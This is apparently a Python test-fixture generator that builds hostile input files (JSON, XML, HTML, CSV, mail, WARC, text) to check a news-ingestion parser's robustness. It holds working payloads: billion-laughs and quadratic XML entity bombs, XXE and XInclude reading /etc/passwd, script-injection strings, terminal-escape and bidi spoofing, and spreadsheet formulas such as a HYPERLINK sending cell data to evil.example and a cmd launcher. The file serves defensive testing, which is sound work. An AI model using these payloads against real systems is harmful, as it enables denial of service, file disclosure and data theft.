"""Files that are what they seem to be, but hostile: JSON, XML, pages, tables, mail, web archives, plain text."""
import json

from bombs import page, warc
from cases import body, case, good, mark

ESC = "\x1b"


def record(name, number=0, **more):
    """A good record as a line; `more` are further keys, or others in their place."""
    head, _, text = good(mark(name, number)).partition("\n\n")
    return json.dumps({"headline": head, "articleBody": text.strip(), **more}, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n"


def around(name, *bad):
    """Bad lines between two good records."""
    return record(name, 0) + b"".join(line + b"\n" for line in bad) + record(name, 1)


# ---- JSON ----

@case("json/arrays.jsonl", "JSON nested a million deep, between two good records")
def _(p):
    n = p.size(1_000_000, 200_000)
    return around("arrays.jsonl", b'{"articleBody":' + b"[" * n + b"]" * n + b"}", b'{"a":' * n + b"1" + b"}" * n)


@case("json/deep.json", "one JSON array nested a million deep")
def _(p):
    return b'[{"a":' + b"[" * p.size(1_000_000, 200_000)


@case("json/key.jsonl", "a key of 10 MB, between two good records")
def _(p):
    return around("key.jsonl", b'{"' + b"k" * 10_000_000 + b'":1,' + record("key.jsonl", 2)[1:-1])


@case("json/keys.jsonl", "200,000 keys in one record")
def _(p):
    return around("keys.jsonl", b"{" + b"".join(b'"k%d":1,' % i for i in range(200_000)) + record("keys.jsonl", 2)[1:-1])


@case("json/twice.jsonl", "every key twice")
def _(p):
    line = record("twice.jsonl")[:-1]
    return line[:-1] + b"," + line[1:] + b"\n"


@case("json/numbers.jsonl", "numbers for ids, titles and dates: 1e400, -0, a million digits")
def _(p):
    return around("numbers.jsonl", b'{"id":1e400,"headline":-0,"datePublished":1e308,"articleBody":' + b"9" * 1_000_000 + b"}")


@case("json/types.jsonl", "lists and objects where texts belong")
def _(p):
    return around("types.jsonl", b'{"headline":["a",{"b":[]}],"articleBody":{"text":"a"},"author":{"name":{"name":[]}},"url":[]}',
                  b'{"articleBody":null}', b'{"articleBody":true}', b"{}", b'{"":""}')


@case("json/surrogates.jsonl", "lone surrogates, as escapes and as bytes")
def _(p):
    return around("surrogates.jsonl", record("surrogates.jsonl", 2, headline="\ud800 Kabar \udc00 aneh"),
                  record("surrogates.jsonl", 3).replace(b'"headline": "', b'"headline": "\\ud800\\ud800 \\udc00'))


@case("json/zero.jsonl", "NUL as an escape and as a byte in a record")
def _(p):
    return around("zero.jsonl", record("zero.jsonl", 2).replace(b"Senin", b"Se\\u0000nin")[:-1],
                  record("zero.jsonl", 3).replace(b"Senin", b"Se\0nin")[:-1])


@case("json/line.jsonl", "one line of 100 MB between two good records")
def _(p):
    return around("line.jsonl", b'{"articleBody":"' + b"kata " * (20 << 20) + b'"}')


@case("json/cut.jsonl", "lines that stop in the middle, and lines of rubbish")
def _(p):
    return around("cut.jsonl", b'{"articleBody":"isi', b'{"articleBody"', b"{", b"}", b"]", b'{"a":1}}', b"\xff\xfe\xfd", b"null", b"NaN")


@case("json/overlong.jsonl", "overlong UTF-8, bytes that are none, and code points past the last")
def _(p):
    return around("overlong.jsonl", record("overlong.jsonl", 2).replace(b"Senin", b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf\xf8\x88\x80\x80\x80\xf4\x90\x80\x80\xff")[:-1])


@case("json/dates.jsonl", "dates that are none: year 0, 31 February, 9999999, -1, 1e308, a megabyte")
def _(p):
    dates = ["0000-00-00", "2024-02-31", "9999999-01-01", "-0001-01-01", "1e308", "2024-13-45T99:99:99Z", "9" * 1_000_000, "", " ", "NaN",
             "2024-01-01T00:00:00+99:99", "18446744073709551616", "\u0661\u0669\u0669\u0669-01-01", "32 Januari 2024 SM"]
    return b"".join(record("dates.jsonl", i, datePublished=date) for i, date in enumerate(dates))


@case("json/spoof.jsonl", "headlines, outlets and names with terminal codes, C1 controls, bidi overrides, tags and floods of marks")
def _(p):
    spoofs = [f"{ESC}[2J{ESC}[H{ESC}]0;judul\x07 Layar kosong", f"{ESC}]8;;http://evil.example{ESC}\\klik{ESC}]8;;{ESC}\\ di sini",
              "\x9b2J\x9d0;judul\x9c C1 dalam judul", "\u202egpj.exe\u202c \u2066terbalik\u2069 \u202dkiri", "a\rTimpa \x08\x08\x08 baris",
              "Z\u0335\u0321" + "\u0300" * 3000 + "a\u0334" * 50 + "lgo", "\u200b\u200c\u200d\u2060\ufeffTak\u00ad tampak \u2028baris\u2029 \U000e0041\U000e007f",
              "\ufff9anotasi\ufffalain\ufffb \x7f\x7f hapus \ue000\uffff\U0010ffff"]
    return b"".join(record("spoof.jsonl", i, headline=s + " " + mark("spoof.jsonl", i), publisher=s, author=[s], url="https://a.example/" + s, id=f"spoof-{i}-" + s,
                           articleBody=body(mark("spoof.jsonl", i)) + f' "Kami datang {s} pagi ini," kata {s} Budi Santoso kepada {s}.')
                    for i, s in enumerate(spoofs))


@case("json/formulas.jsonl", "headlines, outlets and ids that a spreadsheet takes for formulas")
def _(p):
    cells = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", '=HYPERLINK("http://evil.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", '"=1+1']
    return b"".join(record("formulas.jsonl", i, headline=cell + " " + mark("formulas.jsonl", i), publisher=cell, author=[cell, cell], id=cell + f"#{i}",
                           url=cell) for i, cell in enumerate(cells))


@case("json/markup.jsonl", "headlines, outlets, authors and bodies of markup and script")
def _(p):
    words = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title></head><body onload=alert(1)>", "]]><!--<![CDATA[&xxe;"]
    return b"".join(record("markup.jsonl", i, headline=w + mark("markup.jsonl", i), publisher=w, author=[w], url="javascript:alert(1)//" + w,
                           inLanguage=w, articleBody=w + body(mark("markup.jsonl", i)) + w) for i, w in enumerate(words))


@case("json/utf16.json", "UTF-16 that ends in half a code unit")
def _(p):
    return b"\xff\xfe" + json.dumps([{"articleBody": body(mark("utf16.json"))}]).encode("utf-16-le") + b"\x20"


# ---- XML ----

def feed(inside, head=""):
    return f'<?xml version="1.0"?>{head}<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Kabar</title>{inside}</channel></rss>'.encode()


def item(name, number=0, inside=""):
    head, _, text = good(mark(name, number)).partition("\n\n")
    return (f"<item><title>{head}{inside}</title><guid>{mark(name, number)}</guid>"
            f"<content:encoded>&lt;p&gt;{text}{inside}&lt;/p&gt;</content:encoded></item>")


@case("xml/laughs.xml", "billion laughs: an entity of entities of entities")
def _(p):
    entities = '<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1 or str()};" * 10}">' for i in range(1, 10))
    return feed(item("laughs.xml", 0) + item("laughs.xml", 1, "&lol9;"), f"<!DOCTYPE rss [{entities}]>")


@case("xml/quadratic.xml", "quadratic blow-up: an entity of 1 MB, named 50,000 times")
def _(p):
    return feed(item("quadratic.xml", 0, "&a;" * 50_000), f'<!DOCTYPE rss [<!ENTITY a "{"a" * 1_000_000}">]>')


@case("xml/external.xml", "entities, a document type and a style sheet from /etc/passwd and from a server that listens")
def _(p):
    there = f"http://127.0.0.1:{p.port}"
    return feed(item("external.xml", 0, "&file;&http;"),
                f'<?xml-stylesheet href="{there}/style"?><!DOCTYPE rss SYSTEM "{there}/dtd" [<!ENTITY file SYSTEM "file:///etc/passwd">'
                f'<!ENTITY http SYSTEM "{there}/entity"><!ENTITY % p SYSTEM "{there}/parameter"> %p;]>')


@case("xml/include.xml", "XInclude of /etc/passwd and of a server that listens")
def _(p):
    return feed(item("include.xml", 0) + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:{p.port}/x"/>'
                '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>')


@case("xml/deep.xml", "elements 100,000 deep between two good items")
def _(p):
    return feed(item("deep.xml", 0) + "<a>" * 100_000 + "</a>" * 100_000 + item("deep.xml", 1))


@case("xml/attributes.xml", "an element with 100,000 attributes")
def _(p):
    return feed(item("attributes.xml", 0) + "<a " + " ".join(f'b{i}="c"' for i in range(100_000)) + "/>" + item("attributes.xml", 1))


@case("xml/utf7.xml", "a feed that says it is in UTF-7, with markup in it")
def _(p):
    return feed(item("utf7.xml")).replace(b'version="1.0"?>', b'version="1.0" encoding="UTF-7"?>+ADw-script+AD4-', 1)


@case("xml/links.opml", "OPML with addresses of this machine, file: and javascript:")
def _(p):
    links = "".join(f'<outline type="rss" xmlUrl="{u}"/>' for u in (f"http://127.0.0.1:{p.port}/feed", "file:///etc/passwd", "javascript:alert(1)"))
    return f'<?xml version="1.0"?><opml version="2.0"><head><title>a</title></head><body>{links}</body></opml>'.encode()


# ---- pages ----

@case("pages/divs.html", "a million nested <div> around a good report")
def _(p):
    n = p.size(1_000_000, 200_000)
    head, _, rest = page(mark("divs.html")).partition(b"<article>")
    return head + b"<div>" * n + rest.replace(b"</article>", b"</div>" * n)


@case("pages/attributes.html", "a tag with a million attributes")
def _(p):
    return page(mark("attributes.html")).replace(b"<article>", b"<article " + b" ".join(b"a%d=1" % i for i in range(p.size(1_000_000, 100_000))) + b">")


@case("pages/outside.html", "a page that asks for images, frames, styles, scripts and a refresh from a server that listens")
def _(p):
    there = f"http://127.0.0.1:{p.port}".encode()
    return page(mark("outside.html")).replace(
        b"<article>", b'<base href="%s/"><meta http-equiv=refresh content="0;url=%s/r"><link rel=stylesheet href="%s/c"><link rel=canonical href="%s/x">'
        b'<img src="%s/i"><iframe src="%s/f"></iframe><script src="%s/s"></script><object data="%s/o"></object><article>' % ((there,) * 8))


@case("pages/charset.html", "a page in UTF-7 that says so")
def _(p):
    return page(mark("charset.html")).decode().encode("utf-7").replace(b"<head>", b"<head><meta charset=utf-7>")


@case("pages/references.html", "references to no characters: &#0; &#xD800; &#x110000; &#99999999999;")
def _(p):
    return page(mark("references.html")).replace(b"Senin", b"Senin &#0;&#xD800;&#x110000;&#99999999999;&#27;[2J&#155;2J&#8238;")


@case("pages/json-ld.html", "JSON-LD with a million brackets, dates that are none, and an author of 1 MB")
def _(p):
    data = (b'<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"9999999-99-99","author":{"name":"%s"}}</script>'
            b'<script type="application/ld+json">%s</script>') % (b"a" * 1_000_000, b"[" * p.size(1_000_000, 200_000))
    return page(mark("json-ld.html")).replace(b"</head>", data + b"</head>")


# ---- tables ----

@case("tables/columns.csv", "a table of a million columns")
def _(p):
    n = p.size(1_000_000, 100_000)
    return b"headline,text," + b",".join(b"c%d" % i for i in range(n)) + b"\n" + b"a," * n + b"\n"


@case("tables/quote.csv", "a quotation mark that nothing closes, then good rows")
def _(p):
    rows = "".join(f'{i},"{body(mark("quote.csv", i))}"\n' for i in range(3))
    return f'id,text\nx,"tak ditutup\n{rows}'.encode()


@case("tables/formulas.csv", "cells that are formulas, as text and as ids")
def _(p):
    return ('id,headline,text\n=1+1,"=HYPERLINK(""http://evil.example"")","' + body(mark("formulas.csv", 0)) + '"\n@a,-2+3,"' +
            body(mark("formulas.csv", 1)) + '"\n').encode()


@case("tables/zero.csv", "NUL bytes and a bare CR in cells")
def _(p):
    return ('id,headline,text\na,"Ju\0dul\r lain","' + body(mark("zero.csv", 0)) + '"\n').encode()


# ---- mail ----

def mail(name, number=0, subject=None, extra=""):
    head, _, text = good(mark(name, number)).partition("\n\n")
    return (f"From: Budi <b@a.example>\r\nSubject: {subject or head}\r\nDate: Mon, 05 Jan 2026 10:00:00 +0700\r\nMIME-Version: 1.0\r\n{extra}"
            f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").encode()


@case("mail/froms.mbox", "a mailbox of 100,000 lines 'From ' and a good message")
def _(p):
    return b"From a@a.example Mon Jan  5 10:00:00 2026\r\n" * p.size(1_000_000, 20_000) + mail("froms.mbox")


@case("mail/deep.eml", "MIME parts 1,000 deep")
def _(p):
    head = b"From: a@a.example\r\nSubject: a\r\nDate: Mon, 05 Jan 2026 10:00:00 +0700\r\nMIME-Version: 1.0\r\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(1000))
    return head + parts + b"Content-Type: text/plain\r\n\r\n" + body(mark("deep.eml")).encode()


@case("mail/messages.eml", "messages in messages, 1,000 deep")
def _(p):
    return (b"From: a@a.example\r\nSubject: a\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" * 1000) + mail("messages.eml")


@case("mail/boundary.eml", "boundaries that are empty, the beginning of one another, and 10,000 of them")
def _(p):
    text = body(mark("boundary.eml"))
    parts = "".join(f"--{'a' * (1 + i % 70)}\r\nContent-Type: text/plain\r\n\r\nx\r\n" for i in range(10_000))
    return (f"From: a@a.example\r\nSubject: Kabar\r\nDate: Mon, 05 Jan 2026 10:00:00 +0700\r\nMIME-Version: 1.0\r\n"
            f'Content-Type: multipart/mixed; boundary=""; boundary=aa\r\n\r\n--aa\r\nContent-Type: text/plain\r\n\r\n{text}\r\n{parts}--aa--\r\n').encode()


@case("mail/headers.eml", "header lines of 1 MB, 50,000 of them, with terminal codes in encoded words")
def _(p):
    return mail("headers.eml", 0, "=?utf-8?q?=1B[2J=C2=9B2J_Kabar?=", "X-A: " + "a" * 1_000_000 + "\r\n" + "X-B: b\r\n" * 50_000)


# ---- web archives ----

def warc_with(name, length):
    good_ones = [warc((f"http://a.example/{i}", b"", page(mark(name, i)))) for i in (0, 1)]
    bad = (b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://a.example/x\r\nContent-Type: application/http\r\nContent-Length: %s\r\n\r\n"
           b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>a</p>\r\n\r\n") % length
    return good_ones[0] + bad + good_ones[1]


for label, length in {"none": b"0", "minus": b"-1", "sign": b"9223372036854775808", "wrap": b"18446744073709551617", "long": b"9" * 100_000,
                      "word": b"banyak", "two": b"10\r\nContent-Length: 99999"}.items():
    shown = length.decode() if len(length) < 30 else "100,000 digits"

    @case(f"warc/{label}.warc", f"a record with Content-Length {' and '.join(shown.split(chr(13) + chr(10) + 'Content-Length: '))} between two good ones")
    def _(p, name=f"{label}.warc", length=length):
        return warc_with(name, length)


@case("warc/header.warc", "a header line of 10 MB between two good records")
def _(p):
    good_ones = [warc((f"http://a.example/{i}", b"", page(mark("header.warc", i)))) for i in (0, 1)]
    return good_ones[0] + b"WARC/1.0\r\nWARC-Type: response\r\nX-A: " + b"a" * 10_000_000 + b"\r\nContent-Length: 0\r\n\r\n\r\n\r\n" + good_ones[1]


@case("warc/address.warc", "addresses with terminal codes, file: and 1 MB")
def _(p):
    return warc(("http://a.example/\x1b[2J\x9b\u202e", b"", page(mark("address.warc", 0))), ("file:///etc/passwd", b"", page(mark("address.warc", 1))),
                ("http://a.example/" + "a" * 1_000_000, b"", page(mark("address.warc", 2))))


# ---- plain text ----

@case("text/line.txt", "one line of 100 MB")
def _(p):
    return b"kata " * (20 << 20)


@case("text/zero.txt", "a report with NUL bytes in it")
def _(p):
    return good(mark("zero.txt")).replace("Senin", "Se\0nin").encode()


@case("text/controls.txt", "a report with every control character in headline and body")
def _(p):
    controls = "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), *range(127, 160), *range(0x202A, 0x202F), *range(0x2066, 0x206A)]))
    return good(mark("controls.txt")).replace("Desa", controls + "Desa").encode()


@case("text/zalgo.txt", "a report with 200,000 combining marks on one letter")
def _(p):
    return good(mark("zalgo.txt")).replace("Senin", "S" + "\u0301\u0330" * 100_000 + "enin").encode()


@case("text/lines.txt", "two million line ends before a good report")
def _(p):
    return b"\n" * 2_000_000 + good(mark("lines.txt")).encode()


@case("text/empty.txt", "nothing")
def _(p):
    return b""


@case("text/noise.bin", "random bytes")
def _(p):
    import random
    return random.Random(7).randbytes(300_000)
